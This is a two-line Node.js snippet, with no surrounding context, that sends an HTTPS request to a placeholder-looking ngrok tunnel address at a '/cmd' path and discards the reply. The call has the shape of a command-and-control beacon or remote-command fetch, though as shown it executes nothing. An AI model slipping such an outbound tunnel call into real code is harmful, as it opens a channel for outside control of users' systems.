const https = require('https');
https.get('https://abcd.ngrok-free.app/cmd', (r) => {});
